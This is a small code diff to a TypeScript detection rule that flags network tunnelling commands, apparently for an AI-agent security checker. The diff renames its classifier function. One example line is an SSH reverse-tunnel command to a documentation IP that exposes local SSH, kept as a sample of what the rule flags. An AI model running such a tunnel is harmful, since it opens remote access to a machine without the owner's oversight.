@@ -17,7 +17,7 @@ export const networkTunnel: Rule = {
     'https://attack.mitre.org/techniques/T1090/',
   ],
   mappings: { owasp: ['ASI02'], cwe: ['CWE-441'] },
-  commands: () => [{ ...interest, check: judge }],
+  commands: () => [{ ...interest, check: classifyCommand }],
   examples: {
     flags: [
       shellCall('ssh -fN -R 2222:localhost:22 u@203.0.113.9'),
@@ -70,7 +70,7 @@ const interest = {
   ]),
 }
 
-function judge({ name, args }: Command): Severity | null {
+function classifyCommand({ name, args }: Command): Severity | null {
   if (args.some((arg) => /^(?:--?help|--?version|-h|-V|version|help|status)$/.test(arg)))
     return null
   switch (name) {
